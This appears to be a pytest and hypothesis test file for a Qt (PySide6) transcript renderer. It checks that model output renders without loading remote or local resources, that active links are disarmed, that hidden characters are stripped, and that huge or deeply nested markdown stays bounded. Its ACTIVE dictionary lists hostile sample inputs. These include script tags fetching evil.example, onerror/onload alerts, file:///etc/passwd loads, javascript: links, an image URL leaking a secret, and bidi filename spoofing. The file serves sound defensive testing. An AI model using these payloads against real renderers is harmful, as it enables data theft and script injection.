"""Whatever a model or an import says is drawn: nothing raised, loaded, or laid out without end."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PySide6.QtCore import QUrl
from PySide6.QtGui import QTextDocument

from tests.fakes.drawn import THEME, blocks, compose, runs
from ui.rendering.blocks import MAX_BLOCK_CHARS
from ui.rendering.composer import Composer
from ui.rendering.document import TranscriptDocument
from ui.rendering.parser import MARKDOWN, PLAIN, Dialect

pytestmark = pytest.mark.usefixtures("qapp")

ACTIVE = {
    "script": "<script>fetch('https://evil.example')</script>",
    "img tag": "<img src='https://evil.example/x.png' onerror='alert(1)'>",
    "img file": "<img src='file:///etc/passwd'>",
    "style import": "<style>@import url('file:///etc/passwd'); body{background:url(http://e.x)}</style>",
    "link sheet": "<link rel=stylesheet href='https://evil.example/a.css'>",
    "svg": "<svg onload=alert(1)><image href='https://evil.example/a.png'/></svg>",
    "iframe": "<iframe src='https://evil.example'></iframe>",
    "object": "<object data='file:///etc/passwd'></object>",
    "meta refresh": "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "css attribute": "<p style='background:url(https://evil.example/a)'>x</p>",
    "html comment": "<!-- ![x](https://evil.example/a.png) -->",
    "qt rich text": "<qt><a href='file:///etc/passwd'>x</a></qt>",
    "image": "![x](https://evil.example/a.png?secret)",
    "image file": "![x](file:///etc/passwd)",
    "image absolute": "![x](/etc/passwd)",
    "image relative": "![x](../../etc/passwd)",
    "image unc": "![x](\\\\evil\\share\\a.png) ![y](//evil.example/a.png)",
    "image data": "![x](data:image/png;base64,iVBORw0KGgo=)",
    "image svg data": "![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
    "image qrc": "![x](qrc:/qt-project.org/x.png) ![y](:/x.png)",
    "image reference": "![x][r]\n\n[r]: https://evil.example/a.png",
    "image in link": "[![x](https://evil.example/a.png)](https://evil.example)",
    "images nested": "![![![x](https://a.x/1)](https://a.x/2)](https://a.x/3)",
    "javascript": "[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z](&#106;avascript:a)",
    "vbscript": "[x](vbscript:msgbox)",
    "data link": "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "file link": "[x](file:///etc/passwd) <file:///etc/passwd>",
    "reference file": "[x][r]\n\n[r]: file:///etc/passwd",
    "bidi": "\u202eevil\u202c \u2067x\u2069 [\u202egpj.exe](https://a.x/\u202egpj.exe)",
    "tags": "hi\U000e0041\U000e0042\U000e007f there",
    "zero width": "a\u200bb\u200cc\u200dd\ufeffe",
    "controls": "".join(map(chr, range(32))) + "\x7f\x80\x9f",
    "qt markers": "a\ufdd0b\ufdd1c\ufffcd\u2028e\u2029f",
    "surrogate": "a\ud800b \udfff",
    "nul": "a\x00b",
    "link title": "[x](https://a.x 'javascript:alert(1)')",
    "autolink": "<javascript:alert(1)> <https://a.x/<script>>",
    "math": "$\\href{javascript:alert(1)}{x}$ $$\\includegraphics{/etc/passwd}$$",
    "language": "```<script>alert(1)</script>\nx\n```",
    "footnote html": "[^<b>]\n\n[^<b>]: <script>x</script>",
}
SIGNS = "[ ] ( ) ! * ** _ ` ``` \n \n\n > - 1. | |-|\n $ $$ \\( \\) [^1] [^1]: # ~~ < a"
LARGE = {
    "line without spaces": "a" * 1_000_000,
    "line of words": "word " * 200_000,
    "table of 20,000 rows": "|a|b|\n|-|-|\n" + "|1|2|\n" * 20_000,
    "table of 2,000 columns": "|" + "a|" * 2000 + "\n|" + "-|" * 2000 + "\n|" + "1|" * 2000,
    "table in a quote": "> |a|\n> |-|\n" + "> |1|\n" * 5000,
    "quotes 10,000 deep": ">" * 10_000 + " deep",
    "lists 10,000 deep": "- " * 10_000 + "x",
    "indented lists": "".join("  " * depth + "- x\n" for depth in range(1000)),
    "mixed nesting": "".join("> - " * (depth % 40) + "x\n" for depth in range(400)),
    "unclosed fence": "```python\n" + "x = 1\n" * 50_000,
    "unclosed fence of one line": "```python\n" + "x" * 300_000,
    "brackets": "[" * 50_000,
    "links": "[a](" * 20_000,
    "stars": "*a " * 30_000,
    "alternating stars": "a**b" + "c* " * 20_000,
    "backticks": "".join("`" * length + "a" for length in range(1, 300)),
    "pictures": "![" * 20_000,
    "nested pictures": "![a" * 5000 + "](b)" * 5000,
    "dollars": "$a" * 30_000,
    "display mathematics": "$$\n" * 5000,
    "fractions": "$" + "\\frac{" * 1500 + "$",
    "definitions": "".join(f"[r{n}]: http://x/{n}\n" for n in range(5000)) + "[r1]",
    "footnotes": "".join(f"[^{n}]: note {n}\n\n" for n in range(1500)),
    "hard breaks": "a  \n" * 10_000,
    "rules": "---\n" * 5000,
    "headings": "# a\n" * 5000,
    "lazy quote": "> a\n" + "b\n" * 10_000,
    "combining marks": "a" + "\u0301" * 50_000,
    "right to left": "\u202e\u2067\u05d0" * 10_000,
    "code of quotes": "```python\n" + "'" * 900 + "\n" + '"""' * 300 + "\n```",
}


@pytest.mark.parametrize("dialect", [MARKDOWN, PLAIN], ids=["markdown", "plain"])
@pytest.mark.parametrize("payload", ACTIVE.values(), ids=ACTIVE.keys())
def test_nothing_is_loaded_and_nothing_hides(payload: str, dialect: Dialect) -> None:
    composer = compose(payload, dialect)
    document = composer.document
    document.setTextWidth(500)
    assert document.size().height() > 0
    assert document.refused == []
    text = document.toPlainText()
    assert not set(text) & set("\u202e\x00\x07\x7f\ufdd1") - {"\n"}
    assert not any(0xE0000 <= ord(char) <= 0xE007F for char in text)


@pytest.mark.parametrize("name", ["script", "img tag", "style import", "svg", "css attribute"])
def test_html_is_shown_as_it_was_written(name: str) -> None:
    assert ACTIVE[name].split(">")[0] in compose(ACTIVE[name]).document.toPlainText()


@pytest.mark.parametrize("name", ["javascript", "vbscript", "data link", "file link"])
def test_a_link_that_could_act_is_no_link(name: str) -> None:
    targets = {run[5] for each in blocks(compose(ACTIVE[name]).document) for run in runs(each)}
    assert targets <= {""}


@pytest.mark.parametrize(
    "target",
    [
        "file:///etc/passwd",
        "/etc/passwd",
        "https://evil.example/a.png",
        "qrc:/x",
        "attachment:..%2fx",
    ],
)
def test_the_document_refuses_to_load_whatever_is_asked(target: str) -> None:
    document = TranscriptDocument(THEME)
    for kind in QTextDocument.ResourceType:
        assert document.resource(kind.value, QUrl(target)) is None
    assert set(document.refused) == {QUrl(target).toString()}


@pytest.mark.parametrize("dialect", [MARKDOWN, PLAIN], ids=["markdown", "plain"])
@pytest.mark.parametrize("payload", LARGE.values(), ids=LARGE.keys())
def test_large_texts_cost_no_more_than_a_page(payload: str, dialect: Dialect) -> None:
    composer = Composer(THEME, dialect)
    composer.feed(payload)
    composer.end()
    worst = steps = before = 0
    while composer.step():
        steps += 1
        worst, before = max(worst, composer.blocks_written - before), composer.blocks_written
    assert worst <= 1600
    assert composer.blocks_written <= 9000
    assert steps <= 1500
    longest = max(each.length() for each in blocks(composer.document))
    assert longest <= MAX_BLOCK_CHARS + 500


@pytest.mark.parametrize("payload", [LARGE["line of words"], LARGE["unclosed fence"]])
def test_no_words_are_lost_between_pages(payload: str) -> None:
    composer = compose(payload, pages=100)
    assert not composer.has_more
    drawn = composer.document.toPlainText()
    for word in ("word", "x = 1"):
        assert drawn.count(word) == payload.count(word)


def test_what_is_nested_too_deep_becomes_text_and_stays_readable() -> None:
    assert "deep" in compose(LARGE["quotes 10,000 deep"]).document.toPlainText()
    assert compose(LARGE["lists 10,000 deep"]).document.toPlainText().rstrip().endswith("x")


@given(st.text(max_size=300))
@settings(max_examples=150)
def test_any_text_can_be_drawn(text: str) -> None:
    composer = compose(text)
    assert composer.document.refused == []
    assert not composer.has_more


@given(st.lists(st.sampled_from(SIGNS.split(" ")), max_size=80))
@settings(max_examples=150)
def test_any_mixture_of_signs_can_be_drawn(signs: list[str]) -> None:
    composer = compose(" ".join(signs))
    composer.document.setTextWidth(300)
    assert composer.document.size().height() >= 0
